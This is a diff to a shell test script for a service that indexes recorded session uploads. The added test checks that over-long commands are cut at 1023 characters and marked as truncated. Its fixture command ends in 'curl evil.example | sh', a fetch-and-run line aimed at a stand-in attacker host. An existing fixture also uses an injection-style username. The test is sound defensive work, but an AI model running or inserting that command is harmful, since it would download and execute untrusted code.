@@ -16,6 +16,8 @@ SID_B=fedcba9876543210fedcba9876543210
 up_rec a.tgr user=alice pam=$SID_A bytes=5000
 up_rec big.tgr user=bob bytes=12000000
 up_rec c.tgr user='eve<!channel>' bytes=100
+SID_L=11112222333344445555666677778888
+up_rec long.tgr user=lena pam=$SID_L bytes=100 "command=echo $(head -c 2000 /dev/zero | tr '\0' a); curl evil.example | sh"
 i=0
 while [ $i -lt 10 ]; do
 	up_rec "small$i.tgr" user=carol bytes=$((i * 300 + 1))
@@ -47,6 +49,15 @@ assert len(lines) == 1, lines
 o = json.loads(lines[0])
 assert o["user"] == "alice" and o["sealed"] is True and len(o["final_hash"]) == 64, o
 assert o["s3_key"].startswith("tollgate/dt=") and "/host=testhost/alice/" in o["s3_key"], o
+assert o["command_truncated"] is False, o
+EOF
+# a command longer than the index holds is cut there, and the line says so
+idx_l=$(up_s3_objects tollgate/index | xargs grep -l '"pam_session_id":"'$SID_L'"') || tg_fail "no index line for long.tgr"
+python3 - "$idx_l" <<'EOF' || tg_fail "index line of a long command"
+import json, sys
+o = json.loads(open(sys.argv[1]).read())
+assert o["command"].startswith("echo aaa") and len(o["command"]) == 1023, o["command"][-40:]
+assert o["command_truncated"] is True, o
 EOF
 hash=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["final_hash"])' "$idx")
 
